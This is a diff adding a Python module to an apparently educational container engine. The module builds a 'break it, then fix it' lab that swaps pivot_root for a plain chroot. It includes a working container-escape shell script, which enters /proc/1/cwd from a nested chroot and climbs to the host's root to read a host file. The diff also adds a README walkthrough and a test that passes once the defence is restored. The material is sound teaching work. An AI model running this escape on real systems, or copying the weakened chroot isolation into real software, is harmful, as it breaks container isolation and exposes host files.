@@ -1,0 +1,167 @@
+""""Break it, then fix it" labs: a defence taken out of the engine, the attack that now works, the check.
+
+A lab workspace is the whole engine, working, except for one exercise function whose body is
+replaced by a *weakened* one: the containers still run, but an attack gets through. The student runs
+the attack, sees it succeed, restores the defence, and ``check`` passes once the attack fails again:
+the lab's own test runs the attack against the workspace's engine, next to the chapter's tests.
+
+Lab ``02-pivot-root``: chapter 02's ``pivot_into`` (exercise 02.9) does a plain ``chroot`` instead of
+``pivot_root``. Chapter 01's ``breakout_script`` still fails, because the new PID namespace hides
+every process outside (``/proc/1/root`` is the container's own root); but the host's whole mount
+tree is still attached under the chroot, and a nested chroot walks out of it: a process chrooted
+deeper enters the working directory of PID 1 through ``/proc/1/cwd``, which is now *outside* its
+own root, and ``cd ..`` from there never meets that root again, up to the host's ``/``.
+pivot_root plus detaching the old root leaves no such path: ``..`` stops at the container's root.
+
+A chapter adds a lab by adding a :class:`Lab` to :data:`LABS` (see the chapter-for-teachers page).
+
+Example::
+
+    new_lab("02-pivot-root", "/tmp/lab")   # then follow /tmp/lab/README.md
+"""
+
+from __future__ import annotations
+
+import shlex
+import sys
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+from minidocker._process import EngineError
+
+__all__ = ["LABS", "Lab", "cwd_escape_script", "new_lab"]
+
+
+def cwd_escape_script(marker: str) -> str:
+    """A shell script that, as root in a container whose root is a mere chroot, prints the host's ``marker``.
+
+    It copies busybox into a directory of the container's private ``/dev`` tmpfs, mounts a procfs
+    there and chroots into it; that process enters ``/proc/1/cwd`` (PID 1 stays in ``/``, outside
+    its new root) and climbs with ``cd -P ..``. Nothing is written outside the container.
+    """
+    inner = (f"cd -P /proc/1/cwd || exit 2; i=0; while [ $i -lt 64 ]; do cd -P ..; i=$((i+1)); done; "
+             f"exec /bin/busybox cat .{marker}")
+    return ("mkdir -p /dev/x/bin /dev/x/proc && cp /bin/busybox /dev/x/bin/ && "
+            "mount -t proc proc /dev/x/proc || exit 2; "
+            f"chroot /dev/x /bin/busybox sh -c {shlex.quote(inner)}; exit $?")
+
+
+@dataclass(frozen=True)
+class Lab:
+    """A defence removed from one exercise function, and the attack that shows it.
+
+    ``weakened`` is the body (statements) that replaces the exercise's body in the lab workspace;
+    ``attack(marker)`` is a shell script run as the container's command that prints the host file
+    ``marker`` when the defence is missing; ``stage`` is the module the attack runs against.
+    """
+
+    name: str
+    chapter: int
+    exercise: str
+    title: str
+    weakened: str
+    attack: Callable[[str], str]
+    story: str
+    stage: str = "namespaces"
+
+    @property
+    def test_file(self) -> str:
+        return f"test_{self.chapter:02}_lab_{self.name[3:].replace('-', '_')}.py"
+
+    def test_source(self) -> str:
+        """The lab's test: the attack must not read the host's file."""
+        return f'''"""Lab {self.name}: {self.title}. Passes once the defence is back."""
+
+from minidocker.exercises import labs
+
+
+def test_the_attack_fails(stage, rootfs, tmp_path):
+    """The lab's attack no longer reads a file of the host"""
+    marker = tmp_path / "secret"
+    marker.write_text("host secret\\n")
+    attack = labs.LABS[{self.name!r}].attack(str(marker))
+    result = stage({self.stage!r}, rootfs, "--", "/bin/sh", "-c", attack)
+    assert "host secret" not in result.stdout, "the attack worked: it printed a file of the host"
+'''
+
+
+PIVOT_ROOT = Lab(
+    name="02-pivot-root",
+    chapter=2,
+    exercise="02.9",
+    title="pivot_root replaced by chroot",
+    weakened='os.chroot(root)  # the lab: a chroot instead of pivot_root\nos.chdir("/")\n',
+    attack=cwd_escape_script,
+    story="""\
+In this copy of minidocker, `pivot_into()` in `minidocker/mounts.py` (exercise 02.9) has lost its
+defence: instead of `pivot_root(2)` and detaching the old root, it does what chapter 01 did, a
+`chroot(2)`. Everything still seems to work: containers start, have their own PIDs, hostname,
+`/proc`, `/dev`. Even chapter 01's breakout fails, because the PID namespace hides the host's
+processes. But the host's whole mount tree is still there, under the container's root, and a
+root process can climb back up to it.""",
+)
+
+LABS: dict[str, Lab] = {lab.name: lab for lab in (PIVOT_ROOT,)}
+
+
+def _readme(lab: Lab, where: Path, python: str) -> str:
+    py, ws = shlex.quote(python), shlex.quote(str(where))
+    return f"""# Lab {lab.name}: {lab.title}
+
+{lab.story}
+
+## 1. Break it
+
+`attack.sh` is the attack: a shell script to run as the container's command. It tries to print
+the host's file `/tmp/secret`. As root, from this directory (so that Python runs *this* copy of
+the engine):
+
+```console
+# cd {ws}
+# ROOTFS=$({py} -m minidocker.rootfs)
+# echo "host secret" > /tmp/secret
+# {py} -m minidocker.{lab.stage} $ROOTFS -- /bin/sh -c "$(cat attack.sh)"
+host secret
+```
+
+The container printed a file of the host. Read the script: what does each step do, and why does
+`cd ..` not stop at the container's root?
+
+## 2. Fix it
+
+Restore the defence in exercise {lab.exercise}: chapter {lab.chapter:02} of the book explains it. Then
+run the attack again: it must fail.
+
+## 3. Check it
+
+```console
+# {py} -m minidocker.exercises check {lab.chapter} {ws}
+```
+
+runs the tests of chapters 01 to {lab.chapter:02} and the lab's own test (`tests/{lab.test_file}`),
+which runs the attack against this workspace's engine. It passes once the attack fails and
+nothing else broke.
+"""
+
+
+def new_lab(name: str, dest: str | Path) -> Path:
+    """Create the workspace of lab ``name`` in ``dest``: the engine with one defence removed."""
+    from minidocker.exercises.marks import PACKAGE, find_exercises
+    from minidocker.exercises.workspace import build, replace_body
+
+    lab = LABS.get(name)
+    if lab is None:
+        raise EngineError(f"no lab named {name!r}: the labs are {', '.join(sorted(LABS))}")
+    exercise = next((e for e in find_exercises(PACKAGE) if e.id == lab.exercise), None)
+    if exercise is None:
+        raise EngineError(f"lab {name}: exercise {lab.exercise} is not marked in the package")
+    source = (PACKAGE.parent / exercise.path).read_text()
+    change = {exercise.path: replace_body(source, exercise.function, lab.weakened)}
+    metadata = {"kind": "lab", "lab": lab.name, "chapter": lab.chapter, "exercises": [lab.exercise]}
+    dest = Path(dest).resolve()
+    workspace = build(dest, lab.chapter, metadata, _readme(lab, dest, sys.executable), change)
+    (workspace / "tests" / lab.test_file).write_text(lab.test_source())
+    (workspace / "attack.sh").write_text(f"#!/bin/sh\n# {lab.title}: run me as the container's command\n"
+                                         f"{lab.attack('/tmp/secret')}\n")
+    return workspace
